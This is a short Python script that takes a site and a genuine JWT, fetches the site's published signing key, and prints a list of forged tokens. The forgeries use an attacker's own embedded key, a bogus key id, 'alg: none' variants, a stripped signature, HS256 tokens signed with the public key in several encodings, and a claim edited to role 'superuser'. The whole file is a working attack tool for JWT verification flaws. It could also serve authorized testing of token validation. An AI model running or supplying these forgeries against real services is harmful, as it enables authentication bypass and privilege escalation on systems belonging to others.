"""Prints tokens that say what a genuine access token says and were signed by somebody else, one a line.

forge.py SITE TOKEN
"""

import base64
import hashlib
import hmac
import json
import sys
import urllib.request

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import PyJWK


def base64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=="))


def token(sign, header=None, claims=None):
    parts = (genuine_header | (header or {}), genuine_claims | (claims or {}))
    said = ".".join(base64url(json.dumps(part).encode()) for part in parts)
    return f"{said}.{base64url(sign(said.encode()))}"


def keyed(secret):
    return lambda said: hmac.new(secret, said, hashlib.sha256).digest()


site, genuine = sys.argv[1:3]
genuine_header, genuine_claims = map(decoded, genuine.split(".")[:2])
with urllib.request.urlopen(f"{site}/.well-known/jwks.json") as answer:
    published = next(key for key in json.load(answer)["keys"] if key["kid"] == genuine_header["kid"])
public = PyJWK(published).key
stranger = Ed25519PrivateKey.generate()
own = {"kty": "OKP", "crv": "Ed25519", "x": base64url(stranger.public_key().public_bytes_raw())}
head, body, signature = genuine.split(".")

forged = [
    # Signed with another key, which the header brings along, or under a name that nobody has.
    token(stranger.sign),
    token(stranger.sign, {"jwk": own}),
    token(stranger.sign, {"kid": "AAAAAAAAAAAAAAAAAAAAAA"}),
    # Not signed.
    token(lambda _: b"", {"alg": "none"}),
    token(lambda _: b"", {"alg": "nOnE"}),
    f"{head}.{body}.",
    # With the public key as a secret, in each form in which it is known.
    token(keyed(public.public_bytes_raw()), {"alg": "HS256"}),
    token(keyed(public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)), {"alg": "HS256"}),
    token(keyed(published["x"].encode()), {"alg": "HS256"}),
    # Another role under the genuine signature.
    f"{head}.{base64url(json.dumps(genuine_claims | {'role': 'superuser'}).encode())}.{signature}",
]
print(*forged, sep="\n")
